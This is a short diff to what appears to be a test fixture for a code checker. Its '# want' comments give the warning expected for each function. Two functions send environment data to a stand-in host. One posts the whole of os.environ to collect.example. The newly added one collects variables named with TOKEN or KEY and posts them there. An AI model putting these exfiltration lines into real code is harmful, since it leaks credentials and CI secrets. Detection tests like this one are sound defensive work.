@@ -54,3 +54,10 @@ def steal_all():
 def hidden():
     r = __import__("requests")
     r.post("https://collect.example/x", data=str(os.environ))  # want `copies the whole environment with str\(os.environ\)`
+
+
+def ci_secrets():
+    found = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}  # want "copies the environment with a comprehension over os.environ"
+    requests.post("https://collect.example/ci", json=found)
+    flags = [k for k in os.environ if k.startswith("APP_")]
+    return flags
